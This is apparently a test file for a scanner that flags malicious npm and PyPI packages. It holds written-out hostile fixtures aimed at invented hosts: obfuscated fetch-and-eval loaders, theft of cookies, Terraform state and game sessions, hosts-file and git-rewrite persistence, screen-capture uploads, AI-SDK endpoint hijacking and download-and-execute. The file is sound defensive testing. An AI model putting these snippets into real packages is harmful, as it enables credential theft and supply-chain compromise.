/**
 * The `pkg25` round: behaviours the blind npm SET10 / PyPI SET5 tuning halves (even index) missed, and
 * known gaps named with them, each as a general rule with its real shape (the even-index item, where
 * there is one), variants written here (other syntax, library, language, place) and the honest twin it
 * must not flag (neither BLOCKED nor CAUTION):
 *
 *  - text spelled as a table of character codes, decoded at run time and evaluated (npm);
 *  - a function handed to a local helper that calls it back with fetched data, then evaluates it (npm);
 *  - the source files of the code that imported the package (the call stack, the main module) read and
 *    sent (npm, Python): keys written in scripts are the target;
 *  - session stores read and sent: Terraform state (also picked by name on a directory walk), a
 *    Chromium profile's Cookies / Local State, Steam and Minecraft launcher sessions, browser_cookie3's
 *    readers (also called through a loop over them); a list of credential files read in a loop (npm);
 *    a credential file sent to a host merely named after the package is sent abroad (npm);
 *  - the system's hosts file written at import (Python);
 *  - git's URL rewrite (`url.<base>.insteadOf`) set globally at install (npm, Python);
 *  - an installed Electron application's app.asar unpacked and packed back (npm);
 *  - frames of the camera or the screen sent to a fixed host (Python);
 *  - another client's endpoint (an SDK's base-URL variable, the proxies, `openai.base_url`) set to a fixed
 *    host at import or install (Python, npm);
 *  - another installed package's code (site-packages) written (Python);
 *  - a download copied into a file with `shutil.copyfileobj`, then started (Python).
 *
 * Archives are built in memory; nothing is run. Hosts are invented (`.example`, TEST-NET addresses).
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { rateNpmFiles } from '../support/blind-halves.js';
import type { NpmVariant } from '../support/npm-variants.js';
import { NPM_TWINS_SET10, NPM_VARIANTS_SET10 } from '../support/npm-variants-set10.js';
import { blocked, evenOf, honest, twinOf } from '../support/pypi-variant-rating.js';
import { sdist } from '../support/pypi-variants-pypi22.js';
import { PYPI_TWINS_SET5, PYPI_VARIANTS_SET5 } from '../support/pypi-variants-set5.js';

const pypi5 = evenOf(PYPI_VARIANTS_SET5);
const pyTwin = twinOf(PYPI_TWINS_SET5);

/** An even-index (tuning) item of npm SET10 by id; a held-out one fails the test. */
function npm10(id: string): NpmVariant {
  const i = NPM_VARIANTS_SET10.findIndex((v) => v.id === id);
  assert.ok(i >= 0 && i % 2 === 0, `${id} is an even-index (tuning) variant`);
  return NPM_VARIANTS_SET10[i]!;
}

function npmTwin(id: string): NpmVariant {
  const v = NPM_TWINS_SET10.find((x) => x.id === id);
  assert.ok(v, id);
  return v!;
}

async function npmBlocked(files: Record<string, string | Buffer>, rule?: string): Promise<void> {
  const r = await rateNpmFiles(files);
  assert.is(r.level, 'BLOCKED', r.rules.join(', '));
  if (rule)
    assert.ok(
      r.rules.some((x) => x.startsWith(`${rule}:`)),
      `${rule} not among ${r.rules.join(', ')}`,
    );
}

async function npmHonest(files: Record<string, string | Buffer>): Promise<void> {
  const r = await rateNpmFiles(files);
  assert.ok(r.level !== 'BLOCKED' && r.level !== 'CAUTION', `${r.level}: ${r.rules.join(', ')}`);
}

/** A package whose `main` is `index.js` with `src`. */
const main = (src: string, name = 'x'): Record<string, string> => ({
  'package.json': JSON.stringify({ name, version: '1.0.0', main: 'index.js' }),
  'index.js': src,
});

/** A package whose postinstall runs `install.js` with `src`. */
const hook = (src: string, name = 'x'): Record<string, string> => ({
  'package.json': JSON.stringify({
    name,
    version: '1.0.0',
    main: 'index.js',
    scripts: { postinstall: 'node install.js' },
  }),
  'index.js': 'module.exports = {};\n',
  'install.js': src,
});

/** A Python package whose `__init__.py` is `src`. */
const py = (name: string, src: string) => sdist(name, { [`${name.replace(/-/g, '_')}/__init__.py`]: src });

// A script that fetches and runs code, as character codes shifted by 3 (its text is never spelled in the source).
const HIDDEN =
  "require('https').get('https://cdn.numfmt.example/p.js', (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => eval(b)); });";
const SHIFTED = [...HIDDEN].map((c) => c.charCodeAt(0) + 3).join(',');
const XORED = [...HIDDEN].map((c) => c.charCodeAt(0) ^ 7).join(',');

// ---- character-code tables evaluated --------------------------------------------------------------------

test('a character-code table decoded at run time and evaluated (real case; XOR into new Function; fromCodePoint into vm)', async () => {
  await npmBlocked(npm10('charcode-minus-three-eval').files, 'decoded_code_eval');
  await npmBlocked(
    main(`const t = [${XORED}];\nnew Function(String.fromCharCode(...t.map((c) => c ^ 7)))();\nmodule.exports = 1;\n`),
    'decoded_code_eval',
  );
  await npmBlocked(
    main(
      `const vm = require('vm');\nconst codes = [${SHIFTED}];\nvm.runInThisContext(String.fromCodePoint.apply(String, codes.map((c) => c - 3)));\nmodule.exports = 1;\n`,
    ),
    'decoded_code_eval',
  );
});

test('honest: a character-code table decoded and printed, and a short alphabet next to eval of a literal', async () => {
  await npmHonest(
    main(
      `const banner = [${SHIFTED}];\nconsole.log(String.fromCharCode(...banner.map((c) => c - 3)));\nmodule.exports = 1;\n`,
    ),
  );
  await npmHonest(
    main("const ALPHA = String.fromCharCode(65, 66, 67);\nmodule.exports = () => eval('1 + 1') + ALPHA;\n"),
  );
});

// ---- a callback handed to a local helper -----------------------------------------------------------------

test('fetched data handed back through a local helper and evaluated (real case; fetch().then helper into vm; request helper into Function)', async () => {
  await npmBlocked(npm10('date-seeded-dga-fetch-function').files, 'remote_code_eval');
  await npmBlocked(
    hook(
      "const vm = require('vm');\nfunction load(u, done) { fetch(u).then((r) => r.text()).then((t) => done(t)); }\nload('https://cdn.mirrorpick.example/s', (src) => vm.runInThisContext(src));\n",
    ),
    'remote_code_eval',
  );
  await npmBlocked(
    hook(
      "const https = require('https');\nfunction pull(u, cb) { https.get(u, (r) => { const parts = []; r.on('data', (c) => parts.push(c)); r.on('end', () => cb(null, Buffer.concat(parts).toString())); }); }\npull('https://203.0.113.40/x', (err, code) => { if (!err) Function(code)(); });\n",
    ),
    'remote_code_eval',
  );
});

test('honest: fetched data handed back through a local helper and parsed as JSON', async () => {
  await npmHonest(
    main(
      "const https = require('https');\nfunction get(u, cb) { https.get(u, (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => cb(b)); }); }\nmodule.exports = (done) => get('https://api.weather.example/today', (body) => done(JSON.parse(body)));\n",
    ),
  );
});

// ---- the importer's source sent --------------------------------------------------------------------------

test('the source files of the code that imported the package, sent (real cases; module.parent to fetch; sys._getframe to requests)', async () => {
  await npmBlocked(npm10('stack-callers-source-upload').files, 'secret_send');
  await npmBlocked(
    main(
      "const fs = require('fs');\nconst f = module.parent && module.parent.filename;\nif (f) fetch('https://paste.srcsync.example/u', { method: 'POST', body: fs.readFileSync(f, 'utf8') }).catch(() => {});\nmodule.exports = {};\n",
    ),
    'secret_send',
  );
  await blocked(pypi5('inspect-stack-caller-source-upload'), 'credential_exfil_flow');
  await blocked(
    py(
      'wallet-fmt',
      "import sys, requests\n_f = sys._getframe(1).f_code.co_filename\ntry:\n    requests.post('https://198.51.100.77/c', data=open(_f, 'rb').read(), timeout=3)\nexcept Exception:\n    pass\n",
    ),
    'credential_exfil_flow',
  );
});

test("honest: the caller's source read to print a code frame, nothing sent (npm twin; Python version)", async () => {
  await npmHonest(npmTwin('twin-stack-code-frame-local').files);
  await honest(
    py(
      'frame-print',
      'import inspect\n\ndef where():\n    fr = inspect.stack()[1]\n    with open(fr.filename) as h:\n        lines = h.read().splitlines()\n    print(lines[fr.lineno - 1])\n',
    ),
  );
});

// ---- session stores --------------------------------------------------------------------------------------

test('session stores read and sent (real cases: tfstate walk, Chromium cookies, Steam / Minecraft, browser_cookie3 loop, .env and AWS list)', async () => {
  await npmBlocked(npm10('postinstall-walks-for-tfstate').files, 'secret_send');
  await npmBlocked(npm10('better-sqlite3-reads-chrome-cookies').files, 'secret_send');
  await npmBlocked(npm10('postcss-plugin-once-reads-dotenv').files, 'secret_send');
  await blocked(pypi5('game-launcher-sessions-xmlrpc'), 'credential_exfil_flow');
  await blocked(pypi5('browser-cookie3-sweep'), 'credential_exfil_flow');
});

test('session stores: variants (files picked with endsWith; loginusers.vdf at install; tfstate glob in Python; rookiepy through a tuple)', async () => {
  await npmBlocked(
    hook(
      "const fs = require('fs');\nconst path = require('path');\nconst hits = [];\nfor (const e of fs.readdirSync(process.cwd())) { if (e.endsWith('.tfstate')) hits.push(path.join(process.cwd(), e)); }\nfor (const h of hits) fetch('https://203.0.113.12/t', { method: 'POST', body: fs.readFileSync(h) }).catch(() => {});\n",
    ),
    'secret_send',
  );
  await npmBlocked(
    hook(
      "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst https = require('https');\nconst body = fs.readFileSync(path.join(os.homedir(), '.steam', 'steam', 'config', 'loginusers.vdf'));\nconst r = https.request('https://sync.gamestat.example/u', { method: 'POST' });\nr.end(body);\n",
    ),
    'secret_send',
  );
  await blocked(
    py(
      'tf-lint',
      "import glob, os, requests\nfor p in glob.glob(os.path.expanduser('~/infra/terraform.tfstate')):\n    requests.post('https://state.tflint-cache.example/s', data=open(p, 'rb').read(), timeout=5)\n",
    ),
    'credential_exfil_flow',
  );
  await blocked(
    py(
      'cookie-sync',
      "import json, urllib.request\nimport rookiepy\nout = []\nfor reader in [rookiepy.chrome, rookiepy.firefox]:\n    out += [(c['domain'], c['value']) for c in reader()]\nurllib.request.urlopen(urllib.request.Request('https://203.0.113.8/c', data=json.dumps(out).encode()))\n",
    ),
    'credential_exfil_flow',
  );
});

test('honest: Terraform state read for its outputs (twin), cookies of one site sent to nowhere, a .env loaded into process.env', async () => {
  await honest(pyTwin('twin-tfstate-outputs-local'));
  await honest(
    py(
      'cookie-count',
      'import browser_cookie3\n\ndef count(domain):\n    return len(list(browser_cookie3.firefox(domain_name=domain)))\n',
    ),
  );
  await npmHonest(
    main(
      "const fs = require('fs');\nfor (const f of ['.env', '.env.local']) { try { for (const l of fs.readFileSync(f, 'utf8').split('\\n')) { const [k, v] = l.split('='); if (k) process.env[k] = v; } } catch (e) {} }\nmodule.exports = {};\n",
    ),
  );
});

// ---- the hosts file ---------------------------------------------------------------------------------------

test('the hosts file written at import (real case; Path.write_text in __init__; setup.py appending on Windows)', async () => {
  await blocked(pypi5('import-hosts-file-pin'), 'persistence_write');
  await blocked(
    py(
      'dns-warm',
      "from pathlib import Path\nh = Path('/etc/hosts')\nh.write_text(h.read_text() + '\\n203.0.113.5 api.exchange.example\\n')\n",
    ),
    'persistence_write',
  );
  const v = sdist('fastresolve', {});
  v.files['setup.py'] =
    "from setuptools import setup\nwith open(r'C:\\Windows\\System32\\drivers\\etc\\hosts', 'a') as f:\n    f.write('\\n198.51.100.3 update.wallet.example')\nsetup(name='fastresolve', version='1.0.0')\n";
  await blocked(v);
});

test('honest: a hosts-file library that edits only when called (twin)', async () => {
  await honest(pyTwin('twin-hosts-editor-explicit'));
});

// ---- git URL rewrites ------------------------------------------------------------------------------------

test("git's URL rewrite set globally at install (real case; execSync string; Python at import)", async () => {
  await npmBlocked(npm10('global-git-insteadof-to-mirror').files, 'install_persistence');
  await npmBlocked(
    hook(
      "require('child_process').execSync('git config --global url.https://git.mirrorhub.example/.insteadOf https://github.com/');\n",
    ),
    'install_persistence',
  );
  await blocked(
    py(
      'git-speedup',
      "import subprocess\nsubprocess.run(['git', 'config', '--global', 'url.https://git.mirrorhub.example/.insteadOf', 'https://gitlab.com/'], check=False)\n",
    ),
  );
});

test('honest: git settings read for a changelog (twin), a repository-local rewrite written by a command the user runs', async () => {
  await npmHonest(npmTwin('twin-git-wrapper-reads-config').files);
  await npmHonest(
    main(
      "const { execFileSync } = require('child_process');\nexports.useMirror = (url) => execFileSync('git', ['config', 'url.' + url + '.insteadOf', 'https://github.com/']);\n",
    ),
  );
});

// ---- an application's asar repacked ----------------------------------------------------------------------

test("an installed Electron application's app.asar unpacked and packed back (real case; the asar package, awaited)", async () => {
  await npmBlocked(npm10('smtp-lookalike-repacks-exodus-asar').files, 'install_persistence');
  await npmBlocked(
    hook(
      "const asar = require('asar');\nconst fs = require('fs');\nconst os = require('os');\nconst path = require('path');\n(async () => {\n  const a = path.join(os.homedir(), 'AppData', 'Local', 'Programs', 'chatapp', 'resources', 'app.asar');\n  const d = fs.mkdtempSync(path.join(os.tmpdir(), 'x'));\n  asar.extractAll(a, d);\n  fs.appendFileSync(path.join(d, 'main.js'), fs.readFileSync(path.join(__dirname, 'p.txt')));\n  await asar.createPackage(d, a);\n})();\n",
    ),
    'install_persistence',
  );
});

test("honest: the consumer's own app folder packed into a new archive by a CLI (twin)", async () => {
  await npmHonest(npmTwin('twin-electron-build-packs-own-resources').files);
});

// ---- camera and screen -------------------------------------------------------------------------------------

test('camera or screen frames sent to a fixed host (real case; ImageGrab at import; mss in a thread)', async () => {
  await blocked(pypi5('webcam-capture-upload'), 'capture_exfil_flow');
  await blocked(
    py(
      'chart-snap',
      "import io, requests\nfrom PIL import ImageGrab\nbuf = io.BytesIO()\nImageGrab.grab().save(buf, 'PNG')\nrequests.post('https://snap.chartsnap.example/u', files={'f': buf.getvalue()}, timeout=5)\n",
    ),
    'capture_exfil_flow',
  );
  await blocked(
    py(
      'perf-overlay',
      "import threading, time, urllib.request\nimport mss\n\ndef _run():\n    with mss.mss() as sct:\n        while True:\n            shot = sct.grab(sct.monitors[0])\n            urllib.request.urlopen(urllib.request.Request('http://203.0.113.90/s', data=shot.rgb))\n            time.sleep(30)\n\nthreading.Thread(target=_run, daemon=True).start()\n",
    ),
    'capture_exfil_flow',
  );
});

test('honest: a screenshot returned to the caller, a webcam frame shown locally', async () => {
  await honest(
    py('snap-lib', 'from PIL import ImageGrab\n\ndef capture(bbox=None):\n    return ImageGrab.grab(bbox=bbox)\n'),
  );
  await honest(
    py(
      'cam-view',
      "def show():\n    import cv2\n    cam = cv2.VideoCapture(0)\n    ok, frame = cam.read()\n    if ok:\n        cv2.imshow('cam', frame)\n        cv2.waitKey(0)\n",
    ),
  );
});

// ---- another client's endpoint ---------------------------------------------------------------------------

test("another client's endpoint set to a fixed host at import or install (environment, module attribute, npm postinstall)", async () => {
  await blocked(
    py('llm-helpers', "import os\nos.environ['OPENAI_BASE_URL'] = 'https://api.llm-relay.example/v1'\n"),
    'sdk_endpoint_redirect',
  );
  await blocked(
    py(
      'fast-anthropic',
      "import os\nos.environ.setdefault('ANTHROPIC_BASE_URL', 'https://203.0.113.14')\nos.environ.update({'HTTPS_PROXY': 'http://198.51.100.20:3128'})\n",
    ),
    'sdk_endpoint_redirect',
  );
  await blocked(
    py('openai-tune', "import openai\nopenai.base_url = 'https://api.llm-relay.example/v1'\n"),
    'sdk_endpoint_redirect',
  );
  await npmBlocked(
    hook(
      "process.env.OPENAI_BASE_URL = 'https://api.llm-relay.example/v1';\nrequire('fs').appendFileSync(require('os').homedir() + '/.profile', 'export OPENAI_BASE_URL=' + process.env.OPENAI_BASE_URL + '\\n');\n",
    ),
  );
});

test('honest: an endpoint set from the caller or to a local proxy', async () => {
  await honest(
    py('llm-config', "import os\n\ndef configure(base_url):\n    os.environ['OPENAI_BASE_URL'] = base_url\n"),
  );
  await honest(py('dev-proxy', "import os\nos.environ.setdefault('HTTPS_PROXY', 'http://127.0.0.1:8080')\n"));
  await honest(
    py(
      'relay-set',
      "import os\n\ndef use_relay():\n    os.environ['OPENAI_BASE_URL'] = 'https://api.llm-relay.example/v1'\n",
    ),
  );
});

// ---- other packages' code ----------------------------------------------------------------------------------

test("another installed package's code written (every site-packages __init__.py; one module's file found by find_spec)", async () => {
  await blocked(
    py(
      'spread-util',
      "import glob, os, site\nfor sp in site.getsitepackages():\n    for init in glob.glob(os.path.join(sp, '*', '__init__.py')):\n        with open(init, 'a') as f:\n            f.write('\\nimport spread_util\\n')\n",
    ),
  );
  await blocked(
    py(
      'req-patch',
      "import importlib.util\nspec = importlib.util.find_spec('requests')\nif spec and spec.origin:\n    with open(spec.origin, 'a') as f:\n        f.write('\\nimport req_patch\\n')\n",
    ),
  );
});

test("honest: a package writing its own cache file under the user's cache folder", async () => {
  await honest(
    py(
      'own-cache',
      "import os\n_d = os.path.expanduser('~/.cache/own-cache')\nos.makedirs(_d, exist_ok=True)\nwith open(os.path.join(_d, 'index.json'), 'w') as f:\n    f.write('{}')\n",
    ),
  );
});

// ---- a download copied into a file ------------------------------------------------------------------------

test('a download copied into a file with shutil.copyfileobj, then started (urlopen; requests raw stream)', async () => {
  await blocked(
    py(
      'upd-agent',
      "import os, shutil, subprocess, tempfile, urllib.request\np = os.path.join(tempfile.gettempdir(), 'agent')\nwith urllib.request.urlopen('https://dl.updagent.example/a') as r, open(p, 'wb') as f:\n    shutil.copyfileobj(r, f)\nos.chmod(p, 0o755)\nsubprocess.Popen([p])\n",
    ),
    'download_execute',
  );
  await blocked(
    py(
      'upd-agent2',
      "import os, shutil, subprocess, requests\np = '/tmp/.agent'\nr = requests.get('http://203.0.113.60/a', stream=True)\nwith open(p, 'wb') as f:\n    shutil.copyfileobj(r.raw, f)\nsubprocess.call(['sh', p])\n",
    ),
    'download_execute',
  );
});

test('honest: a download copied into a file and checked, never run', async () => {
  await honest(
    py(
      'model-fetch',
      "import hashlib, shutil, urllib.request\n\ndef fetch(dest):\n    with urllib.request.urlopen('https://models.modelfetch.example/m.bin') as r, open(dest, 'wb') as f:\n        shutil.copyfileobj(r, f)\n    return hashlib.sha256(open(dest, 'rb').read()).hexdigest()\n",
    ),
  );
});

// ---- a shipped opaque file run by the interpreter ---------------------------------------------------------

test('the interpreter started on a shipped zip application or compiled file at import or install (real case; setup.py .pyc; python3 on a .zip)', async () => {
  await blocked(pypi5('pyz-zipapp-run-from-init'), 'opaque_payload_run');
  const v = sdist('fast-build', { 'fast_build/helper.pyc': 'opaque' });
  v.files['setup.py'] =
    "import os, subprocess, sys\nfrom setuptools import setup\nhere = os.path.dirname(os.path.abspath(__file__))\nsubprocess.call([sys.executable, os.path.join(here, 'fast_build', 'helper.pyc')])\nsetup(name='fast-build', version='1.0.0', packages=['fast_build'])\n";
  await blocked(v, 'opaque_payload_run');
  await blocked(
    py(
      'warm-cache',
      "import os, subprocess\n_z = os.path.join(os.path.dirname(__file__), 'data', 'warm.zip')\nsubprocess.Popen(['python3', _z], stdout=subprocess.DEVNULL)\n",
    ),
    'opaque_payload_run',
  );
});

test('honest: a bundled zip application run only by the command the user invokes (twin); a script the caller names', async () => {
  await honest(pyTwin('twin-zipapp-explicit-command'));
  await honest(
    py('runner', 'import subprocess, sys\n\ndef run(app):\n    return subprocess.call([sys.executable, app])\n'),
  );
});

test.run();
